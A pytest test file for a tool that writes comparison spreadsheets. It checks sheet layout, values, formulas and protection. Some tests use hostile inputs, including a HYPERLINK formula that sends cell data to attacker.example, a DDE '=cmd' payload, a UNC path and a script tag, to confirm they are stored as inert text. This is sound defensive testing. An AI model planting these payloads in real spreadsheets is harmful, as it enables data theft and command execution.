"""comparison.xlsx: sheets of the contract, figures as numbers, live formulas with right values, texts that cannot act."""

# ruff: noqa: ANN401 - openpyxl has no types

from __future__ import annotations

import html
import random
import re
import shutil
import subprocess
import warnings
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from itertools import combinations
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest
import python_calamine
from openpyxl.worksheet.cell_range import CellRange
from xlsxwriter.utility import xl_rowcol_to_cell
from xlsxwriter.worksheet import Worksheet

from reportgen import evaluation
from reportgen.domain.deciding import what_if as arithmetic
from reportgen.domain.records import review_columns
from reportgen.domain.records.comparison import Comparison, Status
from reportgen.domain.records.plan import Rule, Task
from reportgen.domain.records.score import CitationMark
from reportgen.domain.wording.text import quoted
from reportgen.reports.material import Material
from reportgen.reports.view.build import build
from reportgen.reports.view.context import context_of
from reportgen.reports.xlsx.answers import answer_sheets
from reportgen.reports.xlsx.sheet_content import SourceLink, share_format
from reportgen.reports.xlsx.what_if import INPUT_ROW, plan_of
from reportgen.reports.xlsx.workbook import sheet_names, write
from reportgen.spreadsheets.cell_text import CELL_LIMIT, CUT_MARK, safe
from reportgen.spreadsheets.writer import SheetError, must
from tests.builders import comparison_for
from tests.loops import some
from tests.small_workbooks import baseline, tickets

CONTRACT = (
    "Decision",
    "Matrix",
    "What-if",
    "Measures",
    "By segment",
    "Responses",
    "Service levels",
    "Costs",
    "Checklist",
    "Comparisons",
    "Checks",
    "Run record",
)
LIVE = frozenset({"What-if", "Costs", "Checks", "Service levels"})
"""The only sheets that hold formulas."""
SOFFICE = shutil.which("soffice")


def loaded(path: Path, *, values: bool = True) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return openpyxl.load_workbook(path, data_only=values)


def written(comparison: Comparison, folder: Path, name: str = "comparison.xlsx", **options: int) -> Path:
    path = folder / name
    write(Material(comparison), path, **options)
    return path


@pytest.fixture(scope="module", params=list(Task), ids=lambda t: t.name.lower())
def any_task(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Comparison, Path]:
    comparison = comparison_for(request.param, examples=60)
    return comparison, written(comparison, tmp_path_factory.mktemp("xlsx"))


def near(value: float | None) -> object:
    return None if value is None else pytest.approx(value, rel=1e-12)


def cells(sheet: Any) -> Iterator[Any]:
    return (cell for row in sheet.iter_rows() for cell in row if cell.value is not None)


def table(sheet: Any, header: str) -> list[Mapping[str, Any]]:
    """The rows under the first header row whose first cell reads `header`."""
    rows = list(sheet.iter_rows(values_only=True))
    start = next(i for i, row in enumerate(rows) if row[0] == header)
    names = [n for n in rows[start] if n is not None]
    kept: list[Mapping[str, Any]] = []
    for row in rows[start + 1 :]:
        if row[0] is None:
            break
        kept.append(dict(zip(names, row, strict=False)))
    return kept


def test_the_sheets_stand_in_the_order_of_the_contract_and_open_on_the_decision(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    book = loaded(path)
    task = comparison.plan.settings.task
    parts = {Task.CLASSIFICATION: "By label", Task.EXTRACTION: "By field"}.get(task)
    further = answer_sheets(context_of(comparison))
    assert tuple(n for n in book.sheetnames if n not in {parts, *further}) == CONTRACT
    assert (parts in book.sheetnames) is (parts is not None)
    assert tuple(book.sheetnames) == sheet_names(task, further=further)
    assert book.active.title == "Decision"


def test_calamine_reads_the_same_sheets_and_no_error_value(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    book = python_calamine.CalamineWorkbook.from_path(path)
    further = answer_sheets(context_of(comparison))
    assert tuple(book.sheet_names) == sheet_names(comparison.plan.settings.task, further=further)
    for name in book.sheet_names:
        for row in book.get_sheet_by_name(name).to_python():
            assert not any(
                isinstance(v, str) and re.fullmatch(r"#(REF!|NAME\?|VALUE!|DIV/0!|N/A|NUM!|NULL!)", v) for v in row
            )


def test_the_matrix_has_a_row_for_each_candidate_and_for_manual_work_with_verdict_words_on_each(
    any_task: tuple[Comparison, Path],
) -> None:
    comparison, path = any_task
    rows = table(loaded(path)["Matrix"], "Candidate")
    assert [r["Candidate"] for r in rows] == [*(c.spec.name for c in comparison.candidates), "Manual work"]
    assert all(re.search(r"PROVEN|LIKELY|UNLIKELY|FAILED|NOT TESTABLE|reference", r["Verdict"]) for r in rows)
    for row, candidate in zip(rows, comparison.candidates, strict=False):
        assert row["Cost per task"] == near(candidate.measurements["cost_per_task"].value)
        assert row["p95 latency"] == near(candidate.measurements["p95_latency"].value)
        assert row["Review rate"] == near(candidate.measurements["review_rate"].value)
    assert rows[-1]["Cost per task"] == comparison.manual_cost_per_task


def test_a_figure_that_is_not_there_is_blank_with_its_reason_in_the_row(tmp_path: Path) -> None:
    rows = table(loaded(written(comparison_for(Task.CLASSIFICATION), tmp_path))["Matrix"], "Candidate")
    flaky = next(r for r in rows if r["Candidate"] == "Flaky host")
    assert flaky["p95 latency"] is None
    assert "more than 5 % of requests failed" in flaky["Remarks"]
    unpriced = next(r for r in rows if r["Candidate"] == "Unpriced newcomer")
    assert unpriced["Cost per task"] is None
    assert "no price" in unpriced["Remarks"]


def test_every_measurement_stands_on_the_measures_sheet_unrounded_and_as_a_number(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    rows = table(loaded(path)["Measures"], "Candidate")
    expected = [m for c in comparison.candidates for m in c.measurements.values()]
    assert len(rows) == len(expected)
    for row, m in zip(rows, expected, strict=True):
        assert row["Scope"] == str(m.scope)
        assert row["Value"] == (None if m.value is None else pytest.approx(m.value, rel=1e-14))
        assert row["Bound that decides"] == (None if m.bound is None else pytest.approx(m.bound, rel=1e-14))
        assert m.value is not None or row["Reason or remark"]


def test_only_our_own_sheets_hold_formulas_and_the_only_links_lead_to_rows_of_the_evidence(
    any_task: tuple[Comparison, Path],
) -> None:
    _, path = any_task
    for sheet in some(loaded(path, values=False)):
        formulas = [c for c in cells(sheet) if c.data_type == "f"]
        assert bool(formulas) <= (sheet.title in LIVE)
        links = [c for c in cells(sheet) if c.hyperlink]
        assert bool(links) is (sheet.title == "Responses")
        for link in links:
            assert link.hyperlink.target.replace("\\", "/") == "evidence/workbook.xlsx"
            assert link.hyperlink.location.replace("'", "") == link.value
        for formula in formulas:
            assert not re.search(r"HYPERLINK|WEBSERVICE|DDE|cmd|http", str(formula.value), re.IGNORECASE)


def test_hostile_texts_are_shown_as_text_with_odd_characters_made_visible(tmp_path: Path) -> None:
    sheet = loaded(written(comparison_for(Task.CLASSIFICATION, examples=240), tmp_path))["Responses"]
    texts = [c for c in cells(sheet) if isinstance(c.value, str)]
    joined = "\n".join(c.value for c in texts)
    assert '=HYPERLINK("http://attacker.example/?x="&A1,"open")' in joined
    assert "<script>alert(1)</script>" in joined
    assert "{{ 7*7 }}" in joined
    assert "[U+0000]" in joined
    assert "[U+202E]right-to-left override" in joined
    assert "[U+D83D] end" in joined
    assert "👩‍👩‍👧" in joined
    assert "שלום" in joined
    assert all(c.data_type == "s" for c in texts)
    assert all(c.quotePrefix for c in texts if c.value.startswith(("=", "@", "{=")))


def test_a_text_too_long_for_a_cell_is_cut_and_says_so_with_its_example(tmp_path: Path) -> None:
    sheet = loaded(written(comparison_for(Task.CLASSIFICATION, examples=240), tmp_path))["Responses"]
    long = [c.value for c in cells(sheet) if isinstance(c.value, str) and len(c.value) > 30_000]
    assert long
    for text in long:
        assert len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT
        assert re.search(r"… \[cut; full text in evidence(, E\d+)?\]$", text)


@pytest.mark.parametrize("count", [CELL_LIMIT - 1, CELL_LIMIT, CELL_LIMIT + 1])
@pytest.mark.parametrize("letter", ["a", "漢", "👍"])
def test_the_cut_counts_utf_16_units_as_excel_does(letter: str, count: int) -> None:
    text = letter * count
    shown = safe(text)
    assert len(shown.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert (shown == text) is (len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT)
    assert shown == text or shown.endswith(CUT_MARK)


def test_the_same_comparison_gives_the_same_bytes_and_leaves_no_part_behind(tmp_path: Path) -> None:
    first = written(comparison_for(Task.EXTRACTION), tmp_path, "a.xlsx").read_bytes()
    assert written(comparison_for(Task.EXTRACTION), tmp_path, "b.xlsx").read_bytes() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "b.xlsx"]


def test_an_error_while_writing_keeps_the_older_file_and_leaves_no_part_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = written(comparison_for(Task.CLASSIFICATION, examples=20), tmp_path)
    before = path.read_bytes()

    def fail(*_: object) -> None:
        message = "no room"
        raise RuntimeError(message)

    monkeypatch.setattr("reportgen.reports.xlsx.workbook.write_costs", fail)
    with pytest.raises(RuntimeError, match="no room"):
        write(Material(comparison_for(Task.CLASSIFICATION, examples=20)), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["comparison.xlsx"]


def test_a_refused_call_is_an_error_and_not_a_number() -> None:
    must(0, "A")
    must(None, "A")
    with pytest.raises(SheetError, match=r"Costs!B2.*-2"):
        must(-2, "Costs!B2")


def test_above_the_limit_every_failure_is_kept_and_the_sheet_says_what_is_missing(tmp_path: Path) -> None:
    comparison = comparison_for(Task.CLASSIFICATION, examples=300)
    sheet = loaded(written(comparison, tmp_path, most_examples=200))["Responses"]
    shown = {r["Example ID"] for r in table(sheet, "Example ID")}
    failed = {o.example.id for c in comparison.candidates for o in (*c.sample.observations, *c.regression.observations)
              if not o.score.strict.right}  # fmt: skip
    assert failed < shown
    assert len(shown) == 200
    assert "200 of 306 examples" in sheet["B2"].value
    again = loaded(written(comparison, tmp_path, "again.xlsx", most_examples=200))["Responses"]
    assert shown == {r["Example ID"] for r in table(again, "Example ID")}


def test_every_sheet_is_set_up_for_print_and_protected_without_a_password(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    for sheet in some(loaded(path, values=False)):
        assert sheet.page_setup.orientation == "landscape"
        assert sheet["A1"].alignment.horizontal == "left"  # else a title in Arabic runs out of the sheet to the left
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert comparison.plan.settings.document_number in sheet.oddFooter.left.text
        assert "&P" in sheet.oddFooter.right.text
        assert sheet.protection.sheet
        assert not sheet.protection.password
        assert not sheet.merged_cells.ranges
        tables = [CellRange(table.ref) for table in sheet.tables.values()]
        assert all(a.isdisjoint(b) for a, b in combinations(tables, 2))
        assert sheet.title == "Decision" or sheet.freeze_panes or sheet.max_row < 5
        assert len({c.value for t in sheet.tables.values() for c in sheet[t.ref][0]}) > 0 or sheet.title in {
            "Decision",
            "By segment",
        }


@pytest.mark.parametrize("task", list(Task))
def test_no_table_and_no_text_is_written_over_another(task: Task, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    filled: Counter[tuple[str, int, int]] = Counter()

    def watched(name: str) -> Callable[..., Any]:
        kept = getattr(Worksheet, name)

        def write(sheet: Worksheet, row: int, column: int, *rest: Any) -> Any:
            last = rest[1] if name == "add_table" else column  # of a table, its row of headings
            filled.update((sheet.name, row, place) for place in range(column, last + 1))
            return kept(sheet, row, column, *rest)

        return write

    for name in ("write_string", "write_number", "write_blank", "write_formula", "write_url", "add_table"):
        monkeypatch.setattr(Worksheet, name, watched(name))
    written(comparison_for(task, examples=30), tmp_path)
    typed_into = {"What-if"}  # its yellow cells lie in its tables
    assert len(filled) > 1000
    assert [
        f"{sheet}!{xl_rowcol_to_cell(*place)}"
        for (sheet, *place), times in filled.items()
        if times > 1 and sheet not in typed_into
    ] == []


def test_the_printed_responses_end_before_the_yellow_columns_and_their_first_column_stands_on_every_page(
    any_task: tuple[Comparison, Path],
) -> None:
    comparison, path = any_task
    sheet = loaded(path, values=False)[review_columns.SHEET]
    heads = [c.value for c in sheet[review_columns.HEADER_ROW]]
    last = openpyxl.utils.get_column_letter(heads.index(review_columns.COLUMNS[0]))
    printed = sheet.print_area.partition("!")[2].replace("$", "")
    assert printed == f"A1:{last}{review_columns.HEADER_ROW + len(comparison.corpus.asked)}"
    assert sheet.page_setup.pageOrder == "overThenDown"
    assert sheet.print_title_cols == "$A:$A"


@pytest.mark.parametrize("task", [Task.CLASSIFICATION, Task.EXTRACTION])
def test_the_chart_of_labels_and_fields_shows_the_candidate_of_its_title(task: Task, tmp_path: Path) -> None:
    book = loaded(written(comparison_for(task), tmp_path))
    sheet = book["By label" if task is Task.CLASSIFICATION else "By field"]
    [chart] = sheet._charts  # noqa: SLF001 - openpyxl shows charts nowhere else
    title = str(sheet[chart.title.tx.strRef.f.partition("!")[2].replace("$", "")].value)
    drawn = chart.series[0].val.numRef.f.partition("!")[2].replace("$", "")
    heads = next(r for r in sheet.iter_rows(values_only=True) if "F1 minus" in r)
    shown = [row[0].row for row in sheet[drawn]]
    names = {sheet.cell(row, heads.index("Candidate") + 1).value for row in shown}
    assert names == {title.partition(": ")[2]}


def test_only_the_yellow_cells_can_be_changed_and_each_has_a_name(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    book = loaded(path, values=False)
    names = {n for n in book.defined_names if n.startswith("wi_")}
    wanted = {f"wi_{k}" for k in arithmetic.INPUTS} | {
        f"wi_level_{i}" for i in range(1, len(comparison.plan.service_levels) + 1)
    }
    assert names == wanted | {"wi_winner", "wi_state"}
    unlocked = {(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row if not c.protection.locked}
    assert {title for title, _ in unlocked} == {"What-if", "Responses"}
    what_ifs = [place for title, place in unlocked if title == "What-if"]
    assert len(what_ifs) == len(wanted) + len(comparison.candidates)
    reviews = len(unlocked) - len(what_ifs)
    many = len(comparison.corpus.asked) + review_columns.SPARE_ROWS
    assert reviews == many * len(review_columns.COLUMNS) + review_columns.SPARE_ROWS


def test_a_reviewer_finds_yellow_columns_with_drop_downs_and_empty_rows_for_a_second_verdict(
    any_task: tuple[Comparison, Path],
) -> None:
    comparison, path = any_task
    book = loaded(path, values=False)
    sheet = book[review_columns.SHEET]
    heads = [c.value for c in sheet[review_columns.HEADER_ROW]]
    assert tuple(heads[-len(review_columns.COLUMNS) :]) == review_columns.COLUMNS
    verdicts = next(v for v in sheet.data_validations.dataValidation if "remove example" in (v.formula1 or ""))
    column = openpyxl.utils.get_column_letter(heads.index(review_columns.VERDICT) + 1)
    last = review_columns.HEADER_ROW + len(comparison.corpus.asked) + review_columns.SPARE_ROWS
    assert str(verdicts.sqref) == f"{column}{review_columns.HEADER_ROW + 1}:{column}{last}"
    assert verdicts.formula1.strip('"').split(",") == list(review_columns.VERDICTS)
    start, end = book.defined_names["review_candidates"].attr_text.split("!")[1].replace("$", "").split(":")
    names = [row[0].value for row in book["Matrix"][f"{start}:{end}"]]
    assert names == [c.spec.name for c in comparison.candidates]
    assert sheet.cell(last, 1).value is None
    assert not sheet.cell(last, 1).protection.locked


@pytest.mark.parametrize(
    ("where", "target"),
    [
        ("Examples!A12", "external:evidence/workbook.xlsx#'Examples'!A12"),
        ("Beispiele 2024!AB3", "external:evidence/workbook.xlsx#'Beispiele 2024'!AB3"),
        ("x'!A1 http://attacker.example/#'y!A1", ""),
        ("https://attacker.example!A1", ""),
        ("", ""),
    ],
)
def test_only_what_is_plainly_a_cell_of_the_workbook_becomes_a_link(where: str, target: str) -> None:
    assert SourceLink(where).target == target


def test_every_quotation_that_does_not_hold_is_listed_with_what_is_wrong(tmp_path: Path) -> None:
    comparison = comparison_for(Task.EXTRACTION, examples=60)
    sheet = loaded(written(comparison, tmp_path))["Checks"]
    wanted = [
        (o.example.id, c.spec.name, p.name, p.citation.value)
        for c in comparison.candidates
        for o in (*c.sample.observations, *c.regression.observations)
        for p in o.score.strict.parts
        if p.citation not in {None, CitationMark.SUPPORTS}
    ]
    assert wanted
    rows = table(sheet, "Example ID")
    shown = [(r["Example ID"], r["Candidate"], r["Field"], r["What is wrong"].partition(":")[0]) for r in rows]
    assert shown == wanted


def test_the_decision_sheet_speaks_in_the_words_of_page_one(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    head = build(comparison).headline
    texts = [c.value for c in cells(loaded(path)["Decision"]) if isinstance(c.value, str)]
    for said in (head.sentence, *head.why, *head.further_reasons, *head.sureness, *head.changes, *head.conditions):
        assert quoted(said) in texts
    assert texts.count(head.question) == 1


def test_every_chart_and_table_has_alternative_text_and_every_relationship_resolves(
    any_task: tuple[Comparison, Path],
) -> None:
    _, path = any_task
    with zipfile.ZipFile(path) as package:
        names = set(package.namelist())
        for name in names:
            if name.endswith(".rels"):
                folder = name.rsplit("_rels/", 1)[0]
                for relation in ET.fromstring(package.read(name)):  # noqa: S314 - our own file
                    if relation.get("TargetMode") == "External":
                        assert relation.attrib["Target"].replace("\\", "/") == "evidence/workbook.xlsx"
                        continue
                    target = relation.attrib["Target"]
                    resolved = target.lstrip("/") if target.startswith("/") else _joined(folder, target)
                    assert resolved in names
        drawings = [n for n in names if n.startswith("xl/drawings/drawing")]
        tables = [n for n in names if n.startswith("xl/tables/")]
        assert drawings
        assert tables
        for name in drawings:
            assert re.findall(r'<xdr:cNvPr [^>]*descr="[^"]+"', package.read(name).decode())
        for name in tables:
            assert b"altTextSummary=" in package.read(name)


def _joined(folder: str, target: str) -> str:
    parts = folder.rstrip("/").split("/") if folder else []
    for part in target.split("/"):
        if part == "..":
            parts.pop()
        else:
            parts.append(part)
    return "/".join(parts)


@pytest.mark.parametrize("status", list(Status))
def test_the_decision_sheet_says_the_status_in_words_and_sign(status: Status, tmp_path: Path) -> None:
    sheet = loaded(written(comparison_for(Task.CLASSIFICATION, status=status, examples=60), tmp_path))["Decision"]
    labelled = {row[0]: row[1] for row in sheet.iter_rows(max_col=2, values_only=True) if row[0]}
    assert labelled["Decision"].endswith(status.word)
    assert labelled["Decision"][0] in "●◐?×"
    assert labelled["Recommendation"]


@pytest.mark.parametrize("candidates", [1, 2, 12])
def test_one_candidate_and_a_dozen_both_give_a_workbook(candidates: int, tmp_path: Path) -> None:
    book = loaded(written(comparison_for(Task.SUMMARIZATION, candidates=candidates, examples=30), tmp_path))
    assert len(table(book["Matrix"], "Candidate")) == candidates + 1


def test_a_workbook_without_levels_costs_or_segments_still_opens(tmp_path: Path) -> None:
    comparison = comparison_for(Task.CLASSIFICATION, examples=30)
    bare = replace(
        comparison,
        plan=replace(comparison.plan, service_levels=(), costs={}),
        candidates=tuple(
            replace(c, levels=(), measurements={k: m for k, m in c.measurements.items() if "segment" not in k})
            for c in comparison.candidates
        ),
        manual_cost_per_task=None,
        pairs=(),
        findings=(),
    )
    book = loaded(written(bare, tmp_path))
    assert "no segments" in book["By segment"]["A4"].value


def test_a_bound_that_is_exact_is_a_formula_an_auditor_can_follow(tmp_path: Path) -> None:
    path = written(comparison_for(Task.QUESTION_ANSWERING), tmp_path)
    formulas = [str(c.value) for c in cells(loaded(path, values=False)["What-if"]) if c.data_type == "f"]
    assert any("BETA.INV(0.05," in f for f in formulas)
    assert any("BETA.INV(0.95," in f for f in formulas)


def test_the_what_if_sheet_starts_from_exactly_the_figures_of_the_report(any_task: tuple[Comparison, Path]) -> None:
    comparison, _ = any_task
    model = arithmetic.model_of(comparison)
    outcomes, winner = arithmetic.evaluate(model)
    assert winner == comparison.decision.winner
    for row, out in zip(model.rows, outcomes, strict=True):
        assert abs(row.quantities.other) < 1e-12
        assert out.cost == (None if row.reported_cost is None else pytest.approx(row.reported_cost, rel=1e-12))
        assert [t.reported.value for t in row.levels] == list(out.verdicts)


def test_under_the_point_estimate_rule_a_likely_level_is_enough() -> None:
    comparison = comparison_for(Task.CLASSIFICATION, status=Status.RECOMMEND_PROVISIONALLY)
    model = arithmetic.model_of(comparison)
    assert arithmetic.evaluate(model)[0][0].standing == arithmetic.PROVISIONAL
    assert arithmetic.evaluate(replace(model, rule=Rule.POINT_ESTIMATE))[0][0].standing == arithmetic.QUALIFIED


@pytest.mark.parametrize(
    ("value", "beside", "expected"),
    [
        (0.5, None, "0.0%"),
        (1.0, None, "0.0%"),
        (0.9999, None, "0.00%"),
        (0.89996, 0.9, "0.000%"),
        (0.0004, None, "0.00%"),
        (None, None, "0.0%"),
    ],
)
def test_a_share_is_never_shown_as_all_none_or_its_limit_when_it_is_not(
    value: float | None, beside: float | None, expected: str
) -> None:
    assert share_format(value, beside) == expected


def _recalculated(paths: list[Path], folder: Path) -> list[Any]:
    """The books as LibreOffice recalculates them; openpyxl has dropped every cached value first."""
    assert SOFFICE is not None
    out = folder / "recalculated"
    command = [
        SOFFICE,
        "--headless",
        f"-env:UserInstallation={(folder / 'profile').as_uri()}",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
    ]
    subprocess.run([*command, *map(str, paths)], check=True, capture_output=True, timeout=240)
    return [loaded(out / p.name) for p in paths]


def _changes(model: arithmetic.Model, draw: random.Random) -> tuple[dict[str, float | None], list[float], list[float]]:
    inputs = {k: None if v is None else v * draw.choice([0.5, 1.0, 1.7]) for k, v in model.inputs.items()}
    found = inputs[arithmetic.FOUND]
    inputs[arithmetic.FOUND] = None if found is None else min(1.0, found)
    targets = [
        min(0.999, t * draw.choice([0.9, 1.0, 1.02])) if t < 1 else t * draw.choice([0.3, 1.0]) for t in model.targets
    ]
    return inputs, targets, [draw.choice([0.5, 1.0, 40.0]) for _ in model.rows]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_recalculates_every_formula_to_its_cached_value_and_what_ifs_to_those_of_python(tmp_path: Path) -> None:
    comparison = comparison_for(Task.QUESTION_ANSWERING)
    model = arithmetic.model_of(comparison)
    plan = plan_of(model)
    source = written(comparison, tmp_path)
    draw = random.Random(6)
    changes = [_changes(model, draw) for _ in range(10)]
    paths = []
    for number, change in enumerate([None, *changes]):
        book = loaded(source, values=False)
        if change is not None:
            _type_in(book["What-if"], change, plan.candidates)
        paths.append(tmp_path / f"changed{number}.xlsx")
        book.save(paths[-1])
    cached, formulas = loaded(source), loaded(source, values=False)
    books = _recalculated(paths, tmp_path)
    checked = 0
    for sheet in formulas:
        for cell in (c for c in cells(sheet) if c.data_type == "f"):
            expected, found = cached[sheet.title][cell.coordinate].value, books[0][sheet.title][cell.coordinate].value
            assert (found or "") == (
                pytest.approx(expected, rel=1e-9) if isinstance(expected, int | float) and expected else expected or ""
            )
            checked += 1
    assert checked > 100
    for (inputs, targets, factors), book in zip(changes, books[1:], strict=True):
        outcomes, winner = arithmetic.evaluate(model, inputs=inputs, targets=targets, factors=factors)
        rows = table_at(book["What-if"], plan.candidates + 1)
        assert [r["Standing"] for r in rows] == [o.standing for o in outcomes]
        assert [r["Rank"] or None for r in rows] == [o.rank for o in outcomes]
        for row, out in zip(rows, outcomes, strict=True):
            assert row["Cost per task"] == (arithmetic.NOT_KNOWN if out.cost is None else pytest.approx(out.cost, rel=1e-9))
        assert book["What-if"]["B5"].value == (winner or "none")
        assert book["What-if"]["B4"].value.startswith("CHANGED")
        verdicts = [r["Verdict"] for r in table_at(book["What-if"], plan.verdicts + 1)]
        assert verdicts == [v for o in outcomes for v in o.verdicts]


def table_at(sheet: Any, row: int) -> list[Mapping[str, Any]]:
    names = [c.value for c in sheet[row] if c.value is not None]
    kept: list[Mapping[str, Any]] = []
    for cells_of_row in sheet.iter_rows(min_row=row + 1, max_col=len(names), values_only=True):
        if cells_of_row[0] is None or cells_of_row[1] is None:
            break
        kept.append(dict(zip(names, cells_of_row, strict=True)))
    return kept


def _type_in(sheet: Any, change: tuple[dict[str, float | None], list[float], list[float]], candidates: int) -> None:
    inputs, targets, factors = change
    for offset, value in enumerate([*inputs.values(), *targets], INPUT_ROW + 2):
        sheet.cell(offset, 2).value = value
    for offset, factor in enumerate(factors, candidates + 2):
        sheet.cell(offset, 2).value = factor


def test_the_costs_sheet_shows_what_the_choice_hangs_on(any_task: tuple[Comparison, Path]) -> None:
    comparison, path = any_task
    sheet = loaded(path)["Costs"]
    found = comparison.decision.tornado
    assert found is not None
    swings = table(sheet, "Assumption moved")
    assert [r["Assumption moved"] for r in swings[: len(found.swings)]] == [s.assumption for s in found.swings]
    assert [r["Difference at low"] for r in swings[: len(found.swings)]] == [s.at_low for s in found.swings]
    words = [c.value for c in sheet["A"] if isinstance(c.value, str)]
    assert "What knowing more would be worth" in words
    assert "Who would be chosen if one level were set elsewhere, the others kept" in words


@pytest.mark.usefixtures("figures_only")
def test_a_name_that_a_chart_would_take_for_a_formula_stands_in_a_cell_that_the_chart_refers_to(tmp_path: Path) -> None:
    names = ("Yahoo!AI2", "='\\\\attacker.example\\s\\[b.xlsx]S'!A1", "=cmd|'/c calc'!A1", "Sheet1!$A$1")
    made = [{**baseline("majority"), "Candidate": name} for name in names]
    comparison, _ = evaluation.evaluate(tickets(tmp_path / "t.xlsx", candidates=made), environment={})
    with zipfile.ZipFile(written(comparison, tmp_path)) as archive:
        charts = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart"))
        sheets = {s.title for s in loaded(tmp_path / "comparison.xlsx")}
    formulas = [html.unescape(found) for found in re.findall("<c:f>(.*?)</c:f>", charts)]
    assert formulas
    assert {f.rpartition("!")[0].strip("'") for f in formulas} <= sheets
    assert "attacker" not in "".join(formulas)
